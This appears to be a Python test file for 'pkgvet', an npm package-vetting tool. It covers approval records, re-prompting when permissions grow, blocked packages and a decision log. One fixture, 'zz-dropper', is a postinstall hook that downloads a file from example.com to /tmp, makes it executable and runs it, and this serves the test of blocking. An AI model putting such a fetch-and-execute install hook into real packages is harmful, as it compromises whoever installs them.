"""Approvals through the real binary: `pkgvet approve` records an artifact
with its permissions; audit reuses it (prompt → allow, decided by approval);
the same package with more permissions, or another artifact, is not covered;
blocked packages and directories cannot be approved; the decision log gets
one whole JSON line per verdict."""
import json, os, sys
sys.path.insert(0, os.path.dirname(__file__))
from pvtest import *

d = tmpdir()
home = os.path.join(d, 'home')
os.makedirs(home)
env = {'HOME': home, 'XDG_CONFIG_HOME': os.path.join(home, 'cfg'), 'XDG_STATE_HOME': os.path.join(home, 'state'),
       'XDG_CACHE_HOME': os.path.join(home, 'cache')}
work = os.path.join(d, 'work')
os.makedirs(work)


def pkg(name, version, hook_js):
    return make_tgz(os.path.join(d, f'{name}-{version}.tgz'), {
        'package/package.json': json.dumps({"name": name, "version": version,
                                            "scripts": {"postinstall": "node setup.js"}}),
        'package/setup.js': hook_js,
        'package/index.js': 'module.exports = 1;\n',
    })


v1 = pkg('zz-hooked', '1.0.0', 'const fs = require("fs");\nfs.writeFileSync("built.txt", "ok");\n')
p, doc = audit_json(v1, env=env, cwd=work)
check(doc['packages'][0]['verdict'] == 'prompt' and doc['packages'][0]['decided_by'] == 'policy',
      'before approval: prompt, decided by policy')

p = run('approve', v1, env=env, cwd=work)
out = p.stdout.decode()
check(p.returncode == 0 and 'approved zz-hooked 1.0.0' in out and 'install-hook' in out,
      f'approve records the artifact and its permissions ({out!r} {p.stderr!r})')
store = os.path.join(home, 'cfg', 'pkgvet', 'approvals.ini')
text = open(store).read() if os.path.exists(store) else ''
check('[npm:zz-hooked@1.0.0]' in text and 'digest = sha256:' in text, 'approval stored as readable INI')

p, doc = audit_json(v1, env=env, cwd=work)
pk = doc['packages'][0]
check(p.returncode == 0 and pk['verdict'] == 'allow' and pk['decided_by'] == 'approval'
      and pk['added_permissions'] == [], f'approval reused: allow, decided by approval ({pk["verdict"]}, {pk["decided_by"]})')

# same name and version, different artifact with a new permission: not covered
v1b = pkg('zz-hooked', '1.0.0', 'const fs = require("fs");\nfs.writeFileSync("built.txt", "ok");\n'
                                'require("https").get("https://example.com/x");\n')
p, doc = audit_json(v1b, env=env, cwd=work)
pk = doc['packages'][0]
check(pk['verdict'] == 'prompt' and pk['decided_by'] == 'policy', 'different digest: prompted again')

# approve the grown artifact? first record says fs-write; now growth is shown
p = run('approve', v1b, env=env, cwd=work)
check(p.returncode == 0, 'approving the new artifact works')
p, doc = audit_json(v1b, env=env, cwd=work)
check(doc['packages'][0]['decided_by'] == 'approval', 'new artifact approved')

# an upgrade of an approved package is prompted, leading with what it adds
v2up = pkg('zz-hooked', '1.1.0', 'const fs = require("fs");\nfs.writeFileSync("built.txt", "ok");\n'
                                 'require("child_process").execSync("make");\n')
p, doc = audit_json(v2up, env=env, cwd=work)
pk = doc['packages'][0]
check(pk['verdict'] == 'prompt' and pk['added_permissions'] == ['process'],
      f'upgrade prompts again, adding only process ({pk["added_permissions"]})')
p = run('audit', v2up, env=env, cwd=work)
check(b'now also uses: process' in p.stdout, 'text report names the added permission')

# blocked packages cannot be approved
bad = pkg('zz-dropper', '1.0.0', 'const https = require("https"); const fs = require("fs");\n'
          'const cp = require("child_process");\n'
          'https.get("https://example.com/p", r => { r.pipe(fs.createWriteStream("/tmp/p"));\n'
          '  fs.chmodSync("/tmp/p", 0o755); cp.execSync("/tmp/p"); });\n')
p = run('approve', bad, env=env, cwd=work)
check(p.returncode == 1 and b'blocked' in p.stderr and p.stderr.count(b'\n') == 1,
      f'blocked package cannot be approved ({p.returncode}, {p.stderr!r})')
dd = os.path.join(d, 'dirpkg')
os.makedirs(dd)
with open(os.path.join(dd, 'package.json'), 'w') as f:
    json.dump({"name": "zz-dir", "version": "1.0.0"}, f)
p = run('approve', dd, env=env, cwd=work)
check(p.returncode == 2 and b'directory' in p.stderr, 'a directory cannot be approved')

# project approvals: shared through .pkgvet-approvals.ini in the project root
proj = os.path.join(d, 'proj')
os.makedirs(os.path.join(proj, '.git'))
open(os.path.join(proj, '.pkgvet.ini'), 'w').close()
v2 = pkg('zz-other', '2.0.0', 'require("fs").writeFileSync("x", "y");\n')
p = run('approve', '--project', v2, env=env, cwd=proj)
check(p.returncode == 0 and os.path.exists(os.path.join(proj, '.pkgvet-approvals.ini')), 'project approval file')
sub = os.path.join(proj, 'sub')
os.makedirs(sub)
p, doc = audit_json(v2, env=env, cwd=sub)
check(doc['packages'][0]['decided_by'] == 'approval', 'project approval applies in a subdirectory')
p, doc = audit_json(v2, env=env, cwd=work)
check(doc['packages'][0]['decided_by'] == 'policy', 'and not outside the project')

# decision log: one JSON line per verdict
log = os.path.join(home, 'state', 'pkgvet', 'decisions.jsonl')
lines = open(log).read().splitlines() if os.path.exists(log) else []
recs = [json.loads(l) for l in lines]
check(len(recs) >= 8 and all(r['command'].startswith('pkgvet ') for r in recs), f'decision log has {len(recs)} records')
check(any(r['decided_by'] == 'approval' and r['name'] == 'zz-hooked' and r['action'] == 'allow' for r in recs),
      'log records the approval decision')
check(any(r['action'] == 'prompt' and r['decided_by'] == 'policy' for r in recs), 'log records policy decisions')
done()
